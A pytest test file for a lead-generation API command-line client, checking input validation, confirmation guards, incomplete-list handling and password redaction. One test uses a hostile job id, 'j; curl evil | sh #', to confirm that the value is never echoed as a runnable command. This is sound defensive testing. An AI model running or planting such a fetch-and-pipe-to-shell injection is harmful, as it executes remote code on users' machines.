"""Slips that are easily made, and odd answers, each kept from doing harm."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

import faults
from conftest import Run
from faults import FaultServer, Recorder


@pytest.fixture
def served(monkeypatch: pytest.MonkeyPatch) -> Any:
    """A server that answers 200 to all, and that the commands talk to."""
    with Recorder() as server:
        monkeypatch.setenv("LGP_BASE_URL", server.origin)
        monkeypatch.setenv("LGP_API_KEY", "lgp_" + "0" * 64)
        yield server


@pytest.mark.parametrize("out", ["no/such/folder/x.json", ".", "leads.xlsx"])
@pytest.mark.parametrize(
    "argv", [("campaigns", "create", "--name", "x"), ("leads", "enrich", "--ids", "a"), ("leads", "list")]
)
def test_an_out_that_cannot_be_written_is_told_before_anything_is_sent(
    lgp: Run, api_call: Run, served: FaultServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, out: str, argv: Any
) -> None:
    monkeypatch.chdir(tmp_path)
    for ran in (
        lgp(*argv, "--out", out),
        api_call("POST", "/campaigns", "--data", '{"name":"x"}', "--no-check", "--out", out),
    ):
        assert (ran.code, ran.out) in ((9, ""), (2, ""))
        assert ran.error["hint"]
    assert served.requests == []


def test_a_hint_goes_where_the_run_went(lgp: Run, served: FaultServer) -> None:
    assert "lgp.py --sandbox campaigns list" in lgp("--sandbox", "campaigns", "lst").error["hint"]
    hint = lgp("--base-url", served.origin, "campaigns", "lst").error["hint"]
    assert f"lgp.py --base-url {served.origin} campaigns list" in hint


def test_sandbox_does_no_harm_to_offline_commands(lgp: Run) -> None:
    assert lgp("--sandbox", "schema", "Lead").code == 0
    assert lgp("--sandbox", "completion", "bash").code == 0


def test_bad_limits_are_told_under_sandbox_too(lgp: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LGP_RATE_LIMITS", "abc/60")
    ran = lgp("--sandbox", "leads", "list")
    assert (ran.code, "LGP_RATE_LIMITS" in ran.error["message"]) == (2, True)


def test_a_flag_wins_over_a_variable_that_contradicts_it(
    lgp: Run, served: FaultServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LGP_ALL", "1")
    lgp("campaigns", "list", "--page", "2")
    assert [request.target for request in served.requests] == ["/api/agent/campaigns?page=2"]


@pytest.mark.parametrize("text", ["email\na@b.example\n", "name,email\nx,a@b.example\n", "lead 1\n", "a@b.example\n"])
def test_a_file_of_something_else_is_no_list_of_ids(lgp: Run, served: FaultServer, text: str) -> None:
    ran = lgp("leads", "enrich", "--ids-from", "-", stdin=text)
    assert (ran.code, ran.out, served.requests) == (2, "", [])


def test_semicolons_separate_columns_as_well(lgp: Run, served: FaultServer) -> None:
    lgp("leads", "enrich", "--ids-from", "-", stdin="email;id\na@b.example;lead_1\nc@d.example;lead_2\n")
    assert served.requests[0].json()["leadIds"] == ["lead_1", "lead_2"]


def test_an_update_of_nothing_is_not_sent(lgp: Run, served: FaultServer) -> None:
    ran = lgp("campaigns", "update", "c1")
    assert (ran.code, served.requests) == (2, [])
    assert "--name" in ran.error["message"]


def test_changes_of_single_records_answer_briefly(
    lgp: Run, served: FaultServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LGP_RATE_LIMITS", "1000/60")
    ids = [f"l{number}" for number in range(120)]
    told = lgp("leads", "status", "--ids", *ids, "--status", "new").json()
    assert (told["applied"], len(told["parts"]), told["parts_total"]) == (120, 50, 120)
    assert "answer" not in told["parts"][0]


def test_a_list_is_as_complete_to_the_raw_call_as_to_the_named_one(lgp: Run, api_call: Run, sandboxed: Path) -> None:
    named, raw = lgp("leads", "list", "--count").json(), api_call("GET", "/leads", "--count").json()
    assert named == raw
    assert raw["complete"] is False


def test_a_report_goes_into_its_file_as_the_server_made_it(
    lgp: Run, sandboxed: Path, clock: Any, tmp_path: Path
) -> None:
    target = tmp_path / "report.csv"
    argv = ("analytics", "report", "--type", "campaigns", "--report-format", "csv", "--out", str(target))
    assert lgp(*argv).code == 2  # the job has not ended yet
    assert lgp(*argv, "--wait").json()["rows"] == 6
    rows = list(csv.DictReader(io.StringIO(target.read_text())))
    assert (len(rows), "name" in rows[0]) == (6, True)


def test_series_are_rows_in_the_forms_that_have_rows(lgp: Run, sandboxed: Path) -> None:
    trends = list(csv.DictReader(io.StringIO(lgp("analytics", "trends", "--format", "csv").out)))
    assert (len(trends), "periodStart" in trends[0]) == (30, True)
    stages = [json.loads(line)["stage"] for line in lgp("pipeline", "--format", "jsonl").out.splitlines()]
    assert stages == ["new", "qualified", "contacted", "converted"]


@pytest.mark.parametrize(
    ("argv", "like"),
    [
        (("target-accounts", "create", "--name", "x"), "--account-name"),
        (("leads", "create", "--phone", "1"), "--phone-number"),
        (("campaigns", "list", "--statu", "x"), "--status"),
    ],
)
def test_an_option_is_found_by_its_beginning_or_end(lgp: Run, argv: tuple[str, ...], like: str) -> None:
    assert f"Did you mean {like}?" in lgp(*argv).error["message"]


@pytest.mark.parametrize("name", ["--ye", "--yess", "--type", "--es"])
def test_nobody_is_led_to_yes(lgp: Run, name: str) -> None:
    assert "mean" not in lgp("leads", "delete", "--ids", "a", name).error["message"]


def test_after_an_unanswered_delete_what_is_missing_may_be_its_work(lgp: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    gone = faults.answer(body={"success": True, "deleted": 0, "notFound": ["a", "b"]})
    with FaultServer([faults.applied(faults.reset_before()), gone]) as server:
        monkeypatch.setenv("LGP_BASE_URL", server.origin)
        monkeypatch.setenv("LGP_API_KEY", "lgp_" + "0" * 64)
        ran = lgp("leads", "delete", "--ids", "a", "b", "--yes")
    told = ran.json()
    assert (ran.code, told["applied"], told["rejected"]) == (0, 2, 0)
    assert [problem["outcome"] for problem in told["problems"]] == ["deleted_or_absent"] * 2


def test_an_answer_that_comes_once_is_not_lost_with_the_file(
    lgp: Run, served: FaultServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from console import output
    from leadgenius.errors import LocalError

    def full(path: Path) -> Any:
        raise LocalError("full", code="disk")

    monkeypatch.setattr(output, "whole_file", full)
    ran = lgp("campaigns", "create", "--name", "x", "--out", str(tmp_path / "x.json"))
    assert (ran.code, ran.error["outcome"]) == (9, "applied")
    assert ran.json()["success"] is True


def test_a_home_that_is_not_there_is_not_made(lgp: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "nobody"))
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    lgp("limits")
    assert not (tmp_path / "nobody").exists()


@pytest.mark.parametrize("argv", [("auth", "logout"), ("auth", "save-key", "--scope", "agent")])
def test_a_rehearsal_of_what_cannot_be_rehearsed_is_refused_and_does_nothing(
    lgp: Run, sandboxed: Path, argv: tuple[str, ...]
) -> None:
    before = (sandboxed / "credentials.json").read_bytes()
    assert lgp(*argv, "--dry-run", stdin="lgp_" + "1" * 64).code == 2
    assert (sandboxed / "credentials.json").read_bytes() == before


MANY = [f"lead_{number}" for number in range(60)]


@pytest.mark.parametrize(
    "argv",
    [
        ("POST", "/sequences/s1/%65nroll", "--data", json.dumps({"leadIds": MANY})),
        ("POST", "/sequences/s1/enroll", "--no-check", "--data", json.dumps({"ids": [], "leadIds": MANY})),
        ("DELETE", "/leads/batch", "--data", json.dumps({"ids": ["a"]})),
        ("DELETE", "/leads/b%61tch", "--data", json.dumps({"ids": ["a"]})),
    ],
)
def test_no_spelling_gets_round_yes(api_call: Run, served: FaultServer, argv: tuple[str, ...]) -> None:
    ran = api_call(*argv)
    assert (ran.code, ran.error["code"], served.requests) == (2, "needs_yes", [])


@pytest.mark.parametrize("body", [{"ids": [], "leadIds": MANY}, {"ids": ["a"], "leadIds": MANY[:6]}, MANY])
def test_no_shape_of_a_body_gets_round_max_changes(
    api_call: Run, served: FaultServer, monkeypatch: pytest.MonkeyPatch, body: Any
) -> None:
    monkeypatch.setenv("LGP_MAX_CHANGES", "5")
    ran = api_call("POST", "/leads/batch", "--no-check", "--data", json.dumps(body))
    assert (ran.code, ran.error["code"], served.requests) == (2, "too_many_changes", [])


@pytest.mark.parametrize("name", ["no/such/x", "."])
def test_an_ids_out_that_cannot_be_written_is_told_first(
    lgp: Run, served: FaultServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.chdir(tmp_path)
    ran = lgp("leads", "status", "--ids", "a", "b", "--status", "new", "--ids-out", name)
    assert (ran.code, served.requests) == (9, [])


def test_a_result_is_printed_even_when_its_ids_cannot_be_written(
    lgp: Run, served: FaultServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from commands.runners import many
    from leadgenius.errors import LocalError

    def full(path: Path) -> Any:
        raise LocalError("full", code="disk")

    monkeypatch.setattr(many, "whole_file", full)
    ran = lgp("leads", "status", "--ids", "a", "b", "--status", "new", "--ids-out", str(tmp_path / "x"))
    assert (ran.code, ran.json()["applied"]) == (9, 2)


@pytest.mark.parametrize("job", ["a/b", "../x", "j; curl evil | sh #", "{lgp}"])
@pytest.mark.parametrize("ids", [["l1"], [f"l{number}" for number in range(501)]])
def test_a_job_with_a_strange_id_is_running_and_never_a_command(
    lgp: Run, monkeypatch: pytest.MonkeyPatch, job: str, ids: list[str], clock: Any
) -> None:
    with FaultServer([faults.answer(body={"success": True, "jobId": job})]) as server:
        monkeypatch.setenv("LGP_BASE_URL", server.origin)
        monkeypatch.setenv("LGP_API_KEY", "lgp_" + "0" * 64)
        ran = lgp("leads", "enrich", "--ids", *ids, "--wait", "--wait-time", "1s")
    assert ran.code == 10
    assert f"enrichment status {job}" not in ran.err
    assert "python3 scripts/lgp.py --wait" not in ran.err


@pytest.mark.parametrize(
    "answer", [{"success": True}, {"jobId": "j", "data": {"status": "completed", "result": "x"}}, [1]]
)
def test_a_report_without_a_report_is_no_success(
    lgp: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, answer: Any, clock: Any
) -> None:
    with FaultServer([faults.answer(body=answer)]) as server:
        monkeypatch.setenv("LGP_BASE_URL", server.origin)
        monkeypatch.setenv("LGP_API_KEY", "lgp_" + "0" * 64)
        argv = ("--type", "leads", "--report-format", "csv", "--wait", "--out", str(tmp_path / "r.csv"))
        ran = lgp("analytics", "report", *argv)
    assert ran.code in (7, 8)
    assert not (tmp_path / "r.csv").exists()


@pytest.mark.parametrize(
    "odd",
    [
        {"period": []},
        {"velocity": []},
        {"velocity": {"averageDaysToQualify": 10**400}},
        {"stages": [{"count": 10**400}]},
        {"stages": [{"count": 1, "conversionRate": 10**400}]},
        {"stages": [{"count": -1}]},
    ],
)
def test_an_odd_funnel_is_shown_as_it_came(lgp: Run, monkeypatch: pytest.MonkeyPatch, odd: dict[str, Any]) -> None:
    body = {"data": {"stages": [{"stage": "new", "count": 1}], "period": {}, "velocity": {}, **odd}}
    with FaultServer([faults.answer(body=json.dumps(body))]) as server:
        monkeypatch.setenv("LGP_BASE_URL", server.origin)
        monkeypatch.setenv("LGP_API_KEY", "lgp_" + "0" * 64)
        assert lgp("pipeline", "--format", "table").code == 0


ROWS = [{"id": f"r{number}"} for number in range(100)]
FULL = {"data": ROWS, "pagination": {"totalItems": 250, "totalPages": 3}}


@pytest.mark.parametrize("end", [{}, [], {"data": []}, {"data": None}, ""])
def test_a_list_that_ends_too_soon_is_never_called_complete(
    lgp: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, end: Any
) -> None:
    with FaultServer([faults.answer(body=FULL), faults.answer(body=end)]) as server:
        monkeypatch.setenv("LGP_BASE_URL", server.origin)
        monkeypatch.setenv("LGP_API_KEY", "lgp_" + "0" * 64)
        ran = lgp("campaigns", "list", "--all", "--max-wait", "0")
    told = ran.json()
    assert (told["complete"], len(told["data"])) == (False, 100)
    assert ran.code == 7 or any("ended before" in note["message"] for note in ran.notes())


@pytest.mark.parametrize("end", [{}, [], {"data": None}, ""])
def test_an_export_that_breaks_off_leaves_the_old_file(
    lgp: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, end: Any
) -> None:
    target = tmp_path / "leads.jsonl"
    target.write_text("old")
    with FaultServer([faults.answer(body={"data": ROWS, "nextToken": "t"}), faults.answer(body=end)]) as server:
        monkeypatch.setenv("LGP_BASE_URL", server.origin)
        monkeypatch.setenv("LGP_AMPLIFY_API_KEY", "da2-" + "a" * 26)
        argv = ("enrich-leads", "list", "--company-id", "c", "--all", "--out", str(target), "--max-wait", "0")
        ran = lgp(*argv)
    assert (ran.code, ran.out, target.read_text()) == (7, "", "old")


@pytest.mark.parametrize("body", [{}, {"success": True}, ""])
def test_one_page_without_rows_is_a_failure_of_the_server(lgp: Run, monkeypatch: pytest.MonkeyPatch, body: Any) -> None:
    with FaultServer([faults.answer(body=body)]) as server:
        monkeypatch.setenv("LGP_BASE_URL", server.origin)
        monkeypatch.setenv("LGP_API_KEY", "lgp_" + "0" * 64)
        assert (lgp("campaigns", "list").code, lgp("leads", "list").out) == (7, "")


def test_a_password_typed_into_a_raw_login_is_blotted_out(api_call: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    refusal = {"success": False, "error": "no such pair: a@b.example hunter2hunter2", "code": "UNAUTHORIZED"}
    with FaultServer([faults.answer(401, refusal)]) as server:
        argv = ("POST", "/epsimo-auth", "--data", '{"email":"a@b.example","password":"hunter2hunter2"}')
        ran = api_call("--base-url", server.origin, *argv)
    assert ran.code == 3
    assert "hunter2hunter2" not in ran.err + ran.out
